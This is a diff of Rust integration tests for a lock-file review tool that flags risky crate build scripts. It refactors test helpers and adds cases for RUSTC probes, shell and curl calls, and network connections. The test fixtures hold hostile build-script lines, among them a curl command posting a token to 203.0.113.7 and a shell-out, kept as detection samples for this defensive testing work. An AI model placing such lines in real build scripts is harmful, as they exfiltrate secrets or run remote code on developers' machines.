@@ -7,10 +7,9 @@
 use lockwatch::registry::IndexDep;
 use lockwatch::registry::fake::FakeRegistry;
 use lockwatch::testkit::Krate;
-use lockwatch_tests::bin::run_lockwatch;
-use lockwatch_tests::lockgen::{Pkg, lock, member};
+use lockwatch_tests::lockgen::{lock, member};
+use lockwatch_tests::registry_check::{findings, pkg, run_check};
 use serde_json::Value;
-use std::path::Path;
 
 const EVIL_BUILD: &str = r#"use std::io::Write;
 use std::net::TcpStream;
@@ -22,79 +21,6 @@ fn main() {
     Command::new("curl").arg("-d").arg(token).arg("http://203.0.113.7/").status().ok();
 }
 "#;
-
-fn pkg(name: &str, version: &str, checksum: &str, deps: &[&str]) -> Pkg {
-    Pkg {
-        name: name.into(),
-        version: version.into(),
-        source: Some("registry+https://github.com/rust-lang/crates.io-index".into()),
-        checksum: Some(checksum.into()),
-        deps: deps.iter().map(|s| s.to_string()).collect(),
-    }
-}
-
-fn findings<'a>(v: &'a Value, code: &str, krate: &str) -> Vec<&'a Value> {
-    v["findings"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .filter(|f| f["code"] == code && f["crate"] == krate)
-        .collect()
-}
-
-fn run_check(
-    base: &str,
-    head: &str,
-    registry: &FakeRegistry,
-    scratch: &Path,
-    extra: &[&str],
-) -> Value {
-    let dir = scratch.join("locks");
-    std::fs::create_dir_all(&dir).unwrap();
-    std::fs::write(dir.join("base.lock"), base).unwrap();
-    std::fs::write(dir.join("Cargo.lock"), head).unwrap();
-    let index = registry.index_url().to_string();
-    let index = if index.starts_with("sparse+") {
-        index
-    } else {
-        format!("sparse+{index}")
-    };
-    let db = extra
-        .iter()
-        .position(|a| *a == "--advisory-db")
-        .map(|i| extra[i + 1].to_string())
-        .unwrap_or_else(|| lockwatch_tests::bin::fixture_db().display().to_string());
-    let extra: Vec<&str> = extra
-        .iter()
-        .enumerate()
-        .filter(|(i, a)| **a != "--advisory-db" && (*i == 0 || extra[i - 1] != "--advisory-db"))
-        .map(|(_, a)| *a)
-        .collect();
-    let (b, h) = (
-        dir.join("base.lock").display().to_string(),
-        dir.join("Cargo.lock").display().to_string(),
-    );
-    let cache = scratch.join("cache").display().to_string();
-    let mut args = vec![
-        "check",
-        "--format",
-        "json",
-        "--advisory-db",
-        &db,
-        "--index-url",
-        &index,
-        "--cache-dir",
-        &cache,
-        "--base-lock",
-        &b,
-        "--head-lock",
-        &h,
-    ];
-    args.extend_from_slice(&extra);
-    let out = run_lockwatch(&args, scratch);
-    serde_json::from_slice(&out.stdout)
-        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)))
-}
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_arrayref_attack_is_caught_without_an_advisory() {
@@ -301,4 +227,123 @@ async fn build_script_changes_show_a_diff_and_yanked_versions_are_flagged() {
     assert_eq!(findings(&v, "links-added", "cc-thing").len(), 1);
     assert_eq!(findings(&v, "yanked", "cc-thing").len(), 1);
     assert!(findings(&v, "build-script-added", "cc-thing").is_empty());
+}
+
+/// quote's build script (1.0.47), as published: it runs the compiler Cargo passes in.
+const RUSTC_PROBE_BUILD: &str = r#"use std::env;
+use std::process::Command;
+use std::str;
+
+fn main() {
+    println!("cargo:rerun-if-changed=build.rs");
+    let Some(minor) = rustc_minor_version() else {
+        return;
+    };
+    if minor >= 77 {
+        println!("cargo:rustc-check-cfg=cfg(no_diagnostic_namespace)");
+    }
+}
+
+fn rustc_minor_version() -> Option<u32> {
+    let rustc = env::var_os("RUSTC")?;
+    let output = Command::new(rustc).arg("--version").output().ok()?;
+    let version = str::from_utf8(&output.stdout).ok()?;
+    let mut pieces = version.split('.');
+    if pieces.next() != Some("rustc 1") {
+        return None;
+    }
+    pieces.next()?.parse().ok()
+}
+"#;
+
+/// Publishes `name` 1.0.0 with `build_rs`, released a year ago, and reviews a lock file that
+/// adds it.
+async fn review_new_crate_with_build_script(name: &str, build_rs: &str) -> Value {
+    let registry = FakeRegistry::start().await;
+    let bytes = Krate::new(name, "1.0.0")
+        .file("src/lib.rs", "")
+        .file("build.rs", build_rs)
+        .build();
+    let sum = registry.publish(name, "1.0.0", bytes, vec![]);
+    registry.set_pubtime(
+        name,
+        "1.0.0",
+        time::OffsetDateTime::now_utc() - time::Duration::days(365),
+    );
+    let scratch = tempfile::tempdir().unwrap();
+    let base = lock(3, &[member("app", "0.1.0")]);
+    let head = lock(
+        3,
+        &[
+            member("app", "0.1.0").deps(&[name]),
+            pkg(name, "1.0.0", &sum, &[]),
+        ],
+    );
+    run_check(&base, &head, &registry, scratch.path(), &[])
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_build_script_that_probes_rustc_is_shown_but_does_not_fail() {
+    let v = review_new_crate_with_build_script("quotelike", RUSTC_PROBE_BUILD).await;
+    let caps = findings(&v, "build-capability", "quotelike");
+    assert_eq!(caps.len(), 1, "{v:#}");
+    assert_eq!(caps[0]["level"], "warn", "{v:#}");
+    assert!(
+        caps[0]["message"].as_str().unwrap().ends_with("build-tool"),
+        "{}",
+        caps[0]["message"]
+    );
+    assert_eq!(caps[0]["evidence"][0]["line"], 17);
+    assert!(
+        caps[0]["evidence"][0]["text"]
+            .as_str()
+            .unwrap()
+            .contains("runs the program in `RUSTC`")
+    );
+    assert_ne!(v["verdict"], "fail", "{v:#}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn build_scripts_that_run_a_shell_or_curl_fail() {
+    for (name, line) in [
+        (
+            "shellout",
+            "    Command::new(\"sh\").arg(\"-c\").arg(\"uname -a\").status().ok();",
+        ),
+        (
+            "fetchout",
+            "    Command::new(\"curl\").arg(\"-sSfO\").arg(\"https://example.invalid/x\").status().ok();",
+        ),
+    ] {
+        let build_rs = format!("use std::process::Command;\nfn main() {{\n{line}\n}}\n");
+        let v = review_new_crate_with_build_script(name, &build_rs).await;
+        let caps = findings(&v, "build-capability", name);
+        assert_eq!(caps.len(), 1, "{v:#}");
+        assert_eq!(caps[0]["level"], "deny", "{v:#}");
+        assert!(
+            caps[0]["message"].as_str().unwrap().ends_with("process"),
+            "{}",
+            caps[0]["message"]
+        );
+        assert_eq!(v["verdict"], "fail");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_rustc_probe_next_to_network_access_fails() {
+    let build_rs = RUSTC_PROBE_BUILD.replace(
+        "fn main() {\n",
+        "fn main() {\n    let _ = std::net::TcpStream::connect(\"203.0.113.7:443\");\n",
+    );
+    let v = review_new_crate_with_build_script("probeandcall", &build_rs).await;
+    let caps = findings(&v, "build-capability", "probeandcall");
+    let tool = caps
+        .iter()
+        .find(|f| f["message"].as_str().unwrap().ends_with("build-tool"))
+        .unwrap();
+    assert_eq!(tool["level"], "deny", "{v:#}");
+    assert!(
+        tool["policy_note"].as_str().unwrap().contains("network"),
+        "{tool:#}"
+    );
 }
